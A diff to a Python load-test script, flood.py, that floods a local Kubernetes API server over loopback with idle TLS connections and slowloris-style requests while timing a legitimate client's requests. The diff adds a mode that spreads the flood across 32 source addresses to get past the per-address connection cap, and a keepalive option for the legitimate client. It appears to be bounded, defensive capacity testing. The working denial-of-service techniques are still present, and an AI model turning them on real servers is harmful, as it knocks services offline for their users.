@@ -6,7 +6,11 @@ usage: flood.py PORT CA TOKEN MODE SECONDS [N]
                   ClientHello, re-opened as soon as the server closes one.
   MODE slowloris: N TLS connections (default 1100) from 127.0.0.2, each sending its
                   request head a byte a second, re-opened when closed.
+  MODE multi:     as nohello, spread over 32 source addresses (127.0.0.2-33), which the
+                  per-address cap alone cannot stop (the global anonymous cap is reached).
   MODE none:      no attacker (the baseline).
+  Add "-keepalive" to the mode: the legitimate client keeps one authenticated connection,
+  made before the flood, instead of a fresh one per request.
 Meanwhile the legitimate client (127.0.0.1) opens a fresh TLS connection every 200 ms
 (as a new kubectl would) and GETs the kubernetes Service with the token, 10 s timeout.
 Bounded: the run stops after SECONDS; loopback only. Prints one summary line.
@@ -14,7 +18,9 @@ Bounded: the run stops after SECONDS; loopback only. Prints one summary line.
 import selectors, socket, ssl, statistics, sys, threading, time
 
 port, ca, token, mode, secs = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
-n = int(sys.argv[6]) if len(sys.argv) > 6 else (2000 if mode == "nohello" else 1100)
+keepalive = mode.endswith("-keepalive")
+mode = mode.replace("-keepalive", "")
+n = int(sys.argv[6]) if len(sys.argv) > 6 else (1100 if mode == "slowloris" else 2000)
 stop = time.time() + secs
 opened = [0]
 
@@ -38,7 +44,7 @@ def attacker():
     conns = {}
 
     def add():
-        s = dial("127.0.0.2")
+        s = dial("127.0.0.%d" % (2 + opened[0] % 32) if mode == "multi" else "127.0.0.2")
         if mode == "slowloris":
             t = ctx.wrap_socket(s, server_hostname="127.0.0.1", do_handshake_on_connect=False)
             conns[t.fileno()] = [t, "hs", 0, 0.0]
@@ -100,26 +106,50 @@ def legit():
     global fails
     ctx = ssl.create_default_context(cafile=ca)
     req = ("GET /api/v1/namespaces/default/services/kubernetes HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
-           "Connection: close\r\n\r\n" % token).encode()
+           "%s\r\n" % (token, "" if keepalive else "Connection: close\r\n")).encode()
+    conn = None
+
+    def connect():
+        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
+        return ctx.wrap_socket(raw, server_hostname="127.0.0.1")
+
+    def one(s):
+        s.sendall(req)
+        data = b""
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            data += d
+            if keepalive and b"\r\n\r\n" in data:
+                head, rest = data.split(b"\r\n\r\n", 1)
+                cl = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
+                if cl and len(rest) >= int(cl[0].split(b":")[1]):
+                    break
+        return data
+
+    if keepalive:  # authenticated before the flood starts
+        conn = connect()
+        one(conn)
     time.sleep(min(3.0, secs / 4))  # let the flood build up first
     while time.time() < stop - 1:
         t0 = time.time()
         try:
-            with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
-                with ctx.wrap_socket(raw, server_hostname="127.0.0.1") as s:
-                    s.sendall(req)
-                    data = b""
-                    while True:
-                        d = s.recv(65536)
-                        if not d:
-                            break
-                        data += d
+            if keepalive:
+                if conn is None:
+                    conn = connect()
+                data = one(conn)
+            else:
+                with connect() as s:
+                    data = one(s)
             if data.startswith(b"HTTP/1.1 200"):
                 lat.append((time.time() - t0) * 1000)
             else:
                 fails += 1
+                conn = None
         except (OSError, ssl.SSLError):
             fails += 1
+            conn = None
         time.sleep(max(0, 0.2 - (time.time() - t0)))
 
 
@@ -134,6 +164,6 @@ for t in th:
 tot = len(lat) + fails
 q = sorted(lat)
 p = lambda f: q[min(len(q) - 1, int(f * len(q)))] if q else float("nan")
-print("mode=%s attacker_conns=%d attacker_opened=%d legit_requests=%d ok=%d (%.1f%%) p50_ms=%.1f p99_ms=%.1f max_ms=%.1f"
-      % (mode, n if mode != "none" else 0, opened[0], tot, len(lat), 100.0 * len(lat) / tot if tot else 0,
+print("mode=%s%s attacker_conns=%d attacker_opened=%d legit_requests=%d ok=%d (%.1f%%) p50_ms=%.1f p99_ms=%.1f max_ms=%.1f"
+      % (mode, "-keepalive" if keepalive else "", n if mode != "none" else 0, opened[0], tot, len(lat), 100.0 * len(lat) / tot if tot else 0,
          p(0.5), p(0.99), max(q) if q else float("nan")))
